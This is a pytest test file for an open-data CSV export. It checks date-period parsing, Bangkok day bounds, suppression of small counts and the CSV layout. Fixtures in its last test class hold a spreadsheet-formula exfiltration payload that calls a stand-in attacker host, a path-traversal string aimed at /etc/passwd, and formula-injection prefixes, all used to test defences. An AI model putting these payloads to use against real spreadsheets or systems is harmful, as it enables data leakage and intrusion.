"""The open-data file: period parsing, Bangkok day bounds, suppression and the CSV shape."""

from __future__ import annotations

import csv
import datetime as dt

import pytest

from app.insights.opendata import (
    OpenDataRequestError,
    parse_period,
    period_bounds,
    published_count,
    published_rows,
    render_csv,
)
from app.insights.repository import DailyAggregate


class TestParsePeriod:
    def test_a_valid_period(self) -> None:
        assert parse_period("2026-01-01", "2026-01-31") == (dt.date(2026, 1, 1), dt.date(2026, 1, 31))

    def test_one_day(self) -> None:
        assert parse_period("2026-01-01", "2026-01-01") == (dt.date(2026, 1, 1), dt.date(2026, 1, 1))

    @pytest.mark.parametrize(
        ("start", "end", "reason"),
        [
            (None, "2026-01-01", "'from' is required"),
            ("2026-01-01", "", "'to' is required"),
            ("2026-1-1", "2026-01-02", "'from' must be a date as YYYY-MM-DD"),
            ("2026-02-30", "2026-03-01", "'from' must be a date"),
            ("2026-03-02", "2026-03-01", "is after"),
            ("2025-01-01", "2026-01-02", "at most 366 days"),
        ],
    )
    def test_bad_periods_say_why(self, start: str | None, end: str | None, reason: str) -> None:
        with pytest.raises(OpenDataRequestError, match=reason):
            parse_period(start, end)


def test_a_period_is_bangkok_midnight_to_the_midnight_after_to() -> None:
    start, end = period_bounds(dt.date(2026, 3, 1), dt.date(2026, 3, 2))

    assert start == dt.datetime(2026, 2, 28, 17, 0, tzinfo=dt.UTC)
    assert end == dt.datetime(2026, 3, 2, 17, 0, tzinfo=dt.UTC)


@pytest.mark.parametrize(("count", "shown"), [(0, "<5"), (1, "<5"), (4, "<5"), (5, "5"), (120, "120")])
def test_counts_below_five_are_suppressed(count: int, shown: str) -> None:
    assert published_count(count) == shown


def test_the_file_starts_with_a_bom_and_the_fixed_header() -> None:
    text = render_csv([DailyAggregate("2026-03-01", "line", "faq", "company_certificate", 12, 3)])

    assert text.startswith("\ufeffdate,channel,intent,faq_id,messages,escalations\r\n")
    assert text.endswith("2026-03-01,line,faq,company_certificate,12,<5\r\n")


class TestOnlyDefinedValues:
    def test_dates_whose_day_bounds_overflow_are_refused(self) -> None:
        for start, end in (("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")):
            with pytest.raises(OpenDataRequestError, match="must be between"):
                parse_period(start, end)

    def test_an_unknown_faq_id_from_a_postback_is_no_faq_id(self) -> None:
        rows = [
            DailyAggregate(
                "2026-03-01", "line", "faq", '=HYPERLINK("https://evil.example/?"&A1,"click")', 3, 0
            ),
            DailyAggregate("2026-03-01", "line", "faq", "../../../etc/passwd", 4, 1),
            DailyAggregate("2026-03-01", "line", "faq", "company_certificate", 6, 0),
            DailyAggregate("2026-03-01", "+evil", "-cmd", "", 5, 0),
        ]
        published = published_rows(rows, {"company_certificate"})
        assert [(r.channel, r.intent, r.faq_id, r.messages, r.escalations) for r in published] == [
            ("", "", "", 5, 0),
            ("line", "faq", "", 7, 1),
            ("line", "faq", "company_certificate", 6, 0),
        ]

    @pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx"])
    def test_no_cell_starts_like_a_formula(self, value: str) -> None:
        text = render_csv([DailyAggregate("2026-03-01", value, value, value, 5, 5)])
        for line in text.lstrip("\ufeff").splitlines()[1:]:
            for cell in next(csv.reader([line])):
                assert not cell.startswith(("=", "+", "-", "@", "\t")), cell
